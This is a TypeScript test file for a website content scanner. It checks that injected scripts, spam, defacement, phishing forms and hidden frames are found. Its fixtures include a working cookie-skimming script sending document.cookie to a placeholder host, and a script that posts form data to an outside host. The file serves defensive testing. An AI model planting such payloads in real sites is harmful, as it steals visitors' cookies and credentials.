import { contentTables } from "@waymark/content";
import { moduleBuilder, defineModule } from "@waymark/core";
import { describe, expect, test } from "vitest";
import { testStorages } from "waymark/testing";
import { base, startSite } from "./site.ts";

const skimmer = `<p>Fog</p><script>new Image().src="//tides.example/?"+document.cookie</script>`;

describe.each(await testStorages())("a scan on %s", (_, storage) => {
  test("finds nothing on a clean site", async () => {
    await using site = await startSite({ storage: storage() });
    await site.admin.post("/core/v2/posts", { title: "Fog", content: "<p>Until ten.</p>" });
    expect(await site.scan()).toEqual([]);
    const { running, progress, "last-scan-time": time } = await site.list();
    expect([running, progress, time]).toEqual([false, 1, "1768496400.000"]);
  });

  test("finds a script injected into an item", async () => {
    await using site = await startSite({ storage: storage() });
    const { body } = await site.admin.post("/core/v2/posts", { title: "Fog", content: skimmer });
    await site.scan();
    expect(await site.rules()).toEqual([
      [`post ${body.id}`, "content_obfuscated", "cookie-out", 100],
      [`post ${body.id}`, "content_script", "script", 50],
    ]);
    const [issue] = await site.issues();
    expect(issue).toMatchObject({
      shortMsg: "A script in “Fog” sends cookies of visitors to another host.",
      data: { stage: "content", evidence: expect.stringContaining("tides.example") },
    });
    expect(issue?.longMsg).not.toContain("<script");
  });

  test("an issue keeps its id, and is deleted when its cause is gone", async () => {
    await using site = await startSite({ storage: storage() });
    const { body } = await site.admin.post("/core/v2/posts", { title: "Fog", content: skimmer });
    const first = await site.scan();
    expect(await site.scan()).toEqual(first);
    await site.admin.edit(`/core/v2/posts/${body.id}`, { content: "<p>Fog</p>" });
    expect(await site.scan()).toEqual([]);
  });

  test("ignored issues stay ignored, forever or until the content changes", async () => {
    await using site = await startSite({ storage: storage() });
    const { body } = await site.admin.post("/core/v2/posts", { title: "Fog", content: skimmer });
    const [hit, script] = await site.scan();
    expect((await site.change(hit?.id ?? 0, "ignoreP")).body).toEqual({ success: true });
    await site.change(script?.id ?? 0, "ignoreC");
    expect(await site.scan()).toEqual([]);
    expect((await site.list()).counts).toEqual({ new: 0, ignored: 2 });
    await site.admin.edit(`/core/v2/posts/${body.id}`, { content: `<p>!</p>${skimmer}` });
    expect((await site.scan()).map(({ id }) => id)).toEqual([script?.id]);
    await site.change(hit?.id ?? 0, "new");
    expect((await site.list()).counts).toEqual({ new: 2, ignored: 0 });
    await site.change(hit?.id ?? 0, "delete");
    expect(await site.issues()).toHaveLength(1);
  });

  test("ignored issues are listed in pages", async () => {
    await using site = await startSite({ storage: storage() });
    for (const title of ["Fog", "Ebb"])
      await site.admin.post("/core/v2/posts", { title, content: skimmer });
    const found = (await site.scan()).slice(0, 3);
    for (const { id } of found) await site.change(id, "ignoreP");
    for (const [offset, { id }] of found.entries()) {
      const { issues, counts } = await site.list({ limit: 1, offset });
      expect(issues.ignored).toMatchObject([{ id, issueIDX: offset }]);
      expect(counts).toEqual({ new: 1, ignored: 3 });
    }
  });

  test("finds spam, defaced pages, phishing forms and hidden frames of all authors", async () => {
    await using site = await startSite({ storage: storage() });
    const link = `<a href="https://pills.example/">here</a>`;
    const injected: readonly (readonly [title: string, content: string, rule: string])[] = [
      [
        "Offers",
        `<p>Buy cheap Viagra online. Cialis without prescription, ${link}.</p>`,
        "spam-text",
      ],
      ["Hacked by Gh0st", "<p>Greetz to all.</p>", "defacement"],
      ["News", "<h1>HACKED BY CYBER TEAM</h1><p>Your security is low.</p>", "defacement"],
      ["時計", "<p>スーパーコピー ブランド 激安 通販 送料無料</p>", "spam-text"],
      [
        "Account",
        '<form action="https://x.example/"><input name="user"><input type="password"></form>',
        "phishing-form",
      ],
      ["Frame", '<iframe src="https://x.example/" width="1" height="1"></iframe>', "hidden-frame"],
      [
        "Shop",
        "<script>f.addEventListener('submit',()=>fetch('https://x.example/',{method:'POST',body:new FormData(f)}))</script>",
        "form-out",
      ],
    ];
    for (const [title, content] of injected)
      await site.admin.post("/core/v2/posts", { title, content });
    const found = await site.scan();
    for (const [title, , rule] of injected) {
      const issue = found.find(
        ({ data, shortMsg }) => data["ruleId"] === rule && shortMsg.includes(`“${title}”`),
      );
      expect([title, rule, (issue?.severity ?? 0) >= 75]).toEqual([title, rule, true]);
    }
  });

  test("finds spam in comments", async () => {
    await using site = await startSite({ storage: storage() });
    const { body } = await site.admin.post("/core/v2/posts", { title: "Fog", status: "publish" });
    await site.admin.post("/core/v2/comments", {
      post: body.id,
      author_name: "Online casino bonus",
      author_email: "a@quay.example",
      content: "Free spins at https://casino.example/ and no deposit bonus!",
    });
    expect((await site.scan()).map(({ data }) => data["ruleId"])).toEqual(["spam-text"]);
  });

  test("embeds of trusted authors, and articles about spam and hacking, are not reported", async () => {
    await using site = await startSite({ storage: storage() });
    const harmless: readonly (readonly [title: string, content: string])[] = [
      [
        "Analytics",
        `<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>
        <script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','G-1');</script>`,
      ],
      ["Toggle", "<script>document.querySelector('#menu').classList.toggle('open');</script>"],
      ["Map", '<iframe src="https://www.google.com/maps/embed?pb=1" width="600"></iframe>'],
      [
        "Newsletter",
        '<form action="https://quay.us1.list-manage.com/subscribe/post"><input type="email"></form>',
      ],
      ["Sign up", '<form action="https://news.example/"><input type="email" name="mail"></form>'],
      ["The history of Viagra", "<p>Sildenafil, sold as Viagra, was made by Pfizer.</p>"],
      ["How our site was hacked by a bot", "<p>In May the harbour's page was hacked by a bot.</p>"],
      ["A night at the casino", '<p>We met at the <a href="https://c.example/">casino</a>.</p>'],
      ["東京", "<p>東京で新品の腕時計を見ました。</p>"],
    ];
    for (const [title, content] of harmless)
      await site.admin.post("/core/v2/posts", { title, content });
    expect(await site.scan()).toEqual([]);
  });

  test("one scan runs at a time, and can be stopped", async () => {
    await using site = await startSite({ storage: storage() });
    await site.admin.post("/core/v2/posts", { title: "Fog", content: skimmer });
    const start = () => site.admin.post(`${base}/scan`);
    const both = await Promise.all([start(), start()]);
    expect(both.map(({ status }) => status).toSorted()).toEqual([200, 409]);
    expect((await site.list()).running).toBe(true);
    expect((await site.admin.remove(`${base}/scan`)).body).toEqual({ success: true });
    expect((await site.admin.remove(`${base}/scan`)).body).toEqual({ success: true });
    await site.site.runJobs();
    expect(await site.list()).toMatchObject({
      running: false,
      progress: 0,
      "last-scan-time": false,
    });
    expect(await site.scan()).toHaveLength(2);
  });

  test("settings, terms, comments and users are scanned", async () => {
    await using site = await startSite({
      storage: storage(),
      options: { badHosts: ["bad.example"] },
    });
    const link = `<a href="https://www.bad.example/">tides</a>`;
    const post = await site.admin.post("/core/v2/posts", { title: "Fog", status: "publish" });
    await site.admin.post("/core/v2/comments", {
      post: post.body.id,
      content: link,
      author_name: "Ana",
      author_email: "ana@quay.example",
    });
    await site.admin.post("/core/v2/categories", { name: "Tides", description: link });
    const me = await site.admin.get("/core/v2/users/me");
    await site.admin.edit(`/core/v2/users/${me.body.id}`, { url: "https://bad.example/" });
    await site.scan();
    const found = (await site.rules()).map(([where, type, , severity]) => [
      String(where).split(" ")[0],
      type,
      severity,
    ]);
    expect(found.toSorted()).toEqual([
      ["comment", "comment_link", 25],
      ["term", "content_bad_url", 75],
      ["user", "content_bad_url", 75],
    ]);
  });

  test("a script in the URL of a commenter is found", async () => {
    const setCommenterUrl = moduleBuilder({ tables: contentTables }).defineTask(
      "table-access.set-commenter-url",
      ({ transaction }, _: {}) =>
        transaction(({ db }) => db.comments.updateAll({}, { author_url: "javascript:alert(1)" })),
    );
    const tableAccess = defineModule({
      name: "table-access",
      requires: ["content"],
      tasks: [setCommenterUrl],
    });
    await using site = await startSite({ storage: storage(), modules: [tableAccess()] });
    const post = await site.admin.post("/core/v2/posts", { title: "Fog", status: "publish" });
    await site.admin.post("/core/v2/comments", { post: post.body.id, content: "Thick" });
    await site.site.run(setCommenterUrl, {});
    expect((await site.scan()).map(({ data }) => data["ruleId"])).toEqual(["script-url"]);
  });

  test("an unclosed tag in one text does not hide findings in the next", async () => {
    await using site = await startSite({ storage: storage() });
    await site.admin.post("/core/v2/posts", {
      title: "Fog <!-- <textarea>",
      content: skimmer,
    });
    expect(await site.scan()).toHaveLength(2);
  });
});
